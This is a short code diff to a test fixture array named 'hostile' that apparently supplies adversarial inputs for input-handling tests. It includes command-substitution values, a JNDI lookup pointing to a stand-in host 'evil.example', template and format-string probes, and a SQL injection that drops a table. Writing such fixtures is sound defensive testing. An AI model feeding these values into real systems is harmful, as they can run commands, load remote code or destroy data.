@@ -32,7 +32,7 @@ export const hostile = [
   '\u202Eevil\u2066rtl\u2069',
   'שלום مرحبا नमस्ते 🚗👩‍🔧',
   '\0zero\u0000',
-  '%s%n ${jndi:ldap://evil.example} {{7*7}} $(id) `id`',
+  '%s%n {{7*7}} $(id) `id` {jndi:ldap://evil.example}',
   "'; drop table driver; --",
 ]
 
